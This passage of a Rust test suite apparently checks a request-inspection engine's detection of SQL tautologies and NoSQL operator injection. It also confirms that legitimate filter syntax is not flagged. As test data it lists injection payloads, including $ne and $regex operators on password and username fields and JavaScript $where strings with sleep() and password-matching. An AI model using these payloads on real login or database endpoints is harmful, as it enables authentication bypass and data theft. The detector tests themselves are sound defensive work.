        assert!(hits(Kind::Value, "query:owner", p, 1).contains(&SQLI_TAUTOLOGY));
        assert!(
            hits(Kind::Value, "query:q", "1 and name like 0x61646d696e", 1)
                .contains(&SQLI_TAUTOLOGY)
        );
        rule(
            SQLI_TAUTOLOGY,
            false,
            Kind::Value,
            "query:q",
            1,
            &[
                "mask and flags=0xffff00",
                "color or tint=0xdeadbeef",
                "x and y=0x4142",
            ],
        );
    }

    #[test]
    fn nosql_operators_count_where_no_filter_needs_them() {
        let strict = [
            (Kind::Name, "json:/password/$ne", "$ne"),
            (Kind::Name, "json:/senha/$regex", "$regex"),
            (Kind::Name, "json:/usuario/$ne", "$ne"),
            (Kind::Name, "form:claim_code[$gt]", "claim_code[$gt]"),
            (Kind::Name, "json:/Пароль/$ne", "$ne"),
            (Kind::Name, "json:/reset/$gt", "$gt"),
            (Kind::Name, "json:/filter/$where", "$where"),
            (Kind::Name, "json:/$where", "$where"),
            (
                Kind::Name,
                "json:/pipeline/0/$match/$expr/$function",
                "$function",
            ),
            (Kind::Name, "json:/resetToken/$regex", "$regex"),
            (Kind::Name, "json:/ssn_last4/$gt", "$gt"),
            (Kind::Name, "json:/username/$ne", "$ne"),
            (Kind::Name, "query:password[$gt]", "password[$gt]"),
            (Kind::Name, "query:user[$ne]", "user[$ne]"),
            (Kind::Name, "form:login[$regex]", "login[$regex]"),
            (
                Kind::Value,
                "query:$where",
                "this.password.length > 0 && sleep(5000)",
            ),
            (Kind::Value, "query:title", "';return true;var x='"),
            (Kind::Name, "json:/$nor", "$nor"),
            (Kind::Name, "cookie:session:/sid/$ne", "$ne"),
            (Kind::Value, "query:mongoQ", "[$lte]asdfsd"),
            (Kind::Value, "query:next", "/login?user[$ne]=x"),
            (Kind::Value, "query:next", "/login?user[$in][]=admin"),
            (Kind::Value, "query:next", "/login?a=1&password[$ne]"),
            (Kind::Name, "query:u_id[$ne]", "u_id[$ne]"),
            (Kind::Name, "query:q[$regex]", "q[$regex]"),
            (Kind::Name, "query:filter:/owner/$gt", "$gt"),
            (Kind::Name, "json:/where/ownerId/$ne", "$ne"),
            (Kind::Name, "json:/pipeline/1/$lookup", "$lookup"),
            (Kind::Name, "json:/pipeline/2/$out", "$out"),
            (Kind::Name, "multipart:filter[$regex]", "filter[$regex]"),
            (Kind::Name, "json:/selector/password_sha/$gt", "$gt"),
            (Kind::Name, "json:/message:/params/0/$gt", "$gt"),
            (Kind::Name, "json:/0/$ne", "$ne"),
            (
                Kind::Value,
                "query:user",
                "admin'&&this.password.match(/.*/)//",
            ),
            // A body that is an update document (a profile PATCH of `{"$set": {...}}`).
            (Kind::Name, "json:/$set", "$set"),
            (
                Kind::Name,
                "form:user[$inc][credits]",
                "user[$inc][credits]",
            ),
        ];
        for (kind, label, text) in strict {
            assert!(
                hits(kind, label, text, 1).contains(&SQLI_NOSQL),
                "{label}: {text}"
            );
        }
        let filters = [
            (Kind::Name, "json:/filter/genre/$eq", "$eq"),
            (Kind::Name, "json:/where/$and", "$and"),
            (Kind::Name, "json:/where/$and/0/category/$in", "$in"),
            (Kind::Name, "json:/filter/$expr/$and/1/$gt", "$gt"),
            (Kind::Name, "json:/filter/email/$regex", "$regex"),
            (
                Kind::Name,
                "query:filters[username][$eq]",
                "filters[username][$eq]",
            ),
            (Kind::Name, "query:userId[$in][]", "userId[$in][]"),
            (Kind::Name, "query:passengers[$gte]", "passengers[$gte]"),
            (Kind::Name, "json:/filter/status/$ne", "$ne"),
            (Kind::Name, "json:/update/$set", "$set"),
            (
                Kind::Name,
                "query:filters[views][$gte]",
                "filters[views][$gte]",
            ),
            (Kind::Name, "query:$where", "$where"),
            (Kind::Name, "query:where:/score/$gt", "$gt"),
            (Kind::Name, "json:/filter/owner/$in", "$in"),
            (Kind::Name, "json:/filter/code/$ne", "$ne"),
        ];
        for (kind, label, text) in filters {
            let pl1 = hits(kind, label, text, 1);
            assert!(!pl1.contains(&SQLI_NOSQL), "{label}: {pl1:?}");
            assert!(
                hits(kind, label, text, 2).contains(&SQLI_NOSQL_LOOSE),
                "{label}"
            );
        }
        for soql in [
            "status = 'Open' AND ward IN ('3', '4', '12')",
            "within_circle(location, 41.8781, -87.6298, 500)",
            "business_name like '%O''BRIEN%'",
        ] {
            let pl1 = hits(Kind::Value, "query:$where", soql, 1);
            assert!(pl1.is_empty(), "{soql}: {pl1:?}");
        }
        // An API's own bracket syntax in a value is no query string.
        assert!(hits(Kind::Value, "query:expand", "properties[$all]", 1).is_empty());
        let code = hits(Kind::Value, "json:/code", "const s = 'a'; return true;", 1);
        assert!(!code.contains(&SQLI_NOSQL), "{code:?}");
    }
}
